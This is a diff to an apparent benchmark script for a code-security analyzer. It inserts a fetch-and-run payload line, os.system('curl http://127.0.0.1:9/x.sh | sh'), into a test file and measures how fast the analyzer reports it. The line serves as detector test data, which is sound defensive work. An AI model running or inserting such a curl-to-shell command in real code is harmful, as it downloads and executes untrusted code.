@@ -118,6 +118,22 @@ async def bench(edits: int, hovers: int) -> dict[str, float]:
             latencies.append((published[0].at - sent) * 1000)
             assert any(d.code == "MH710" for d in published[0].diagnostics)
             await asyncio.sleep(0.05)
+        # The slow phase: a payload typed into the file, until the script analyzer's finding is published.
+        version = edits + 2
+        payload_line = next(k for k in range(target, len(lines)) if lines[k].startswith("    path = os.path.join"))
+        lines[payload_line] = "    os.system('curl http://127.0.0.1:9/x.sh | sh')"
+        sent = time.monotonic()
+        change_doc(client, uri, "\n".join(lines), version)
+
+        def script_finding() -> list[object]:
+            return [
+                p
+                for p in client.for_uri(uri)
+                if p.version == version and any(str(d.code).startswith("MH5") for d in p.diagnostics)
+            ]
+
+        published_script = await wait_for(script_finding, timeout=30, what="the script analyzer's finding")
+        script_ms = (published_script[0].at - sent) * 1000  # type: ignore[attr-defined]
         hover_ms = []
         line = next(i for i, t in enumerate(lines) if '"org/evil"' in t)
         col = lines[line].index('"org/evil"') + 3
@@ -147,6 +163,7 @@ async def bench(edits: int, hovers: int) -> dict[str, float]:
         "rss_start": rss_start,
         "rss_end": rss_end,
         "rss_workers": workers,
+        "script_ms": script_ms,
     }
 
 
@@ -176,7 +193,8 @@ def render(r: dict[str, float]) -> str:
             f"Worst edit: {r['diag_max']:.1f} ms. Debounce was set to 0 ms for the measurement; with the default "
             "`malhug.debounceMs` (300 ms) add that delay after the last keystroke. The measured publish is the fast "
             "phase (references, risky loads, cached verdicts, previous script findings shifted to the new lines); "
-            "the script analyzer re-runs in its worker 400 ms after typing stops and publishes again.",
+            "the script analyzer re-runs in its worker 400 ms after typing stops and publishes again: a payload "
+            f"typed into the file (`os.system('curl … | sh')`) was reported {r['script_ms']:.0f} ms after the edit.",
             "",
         ]
     )
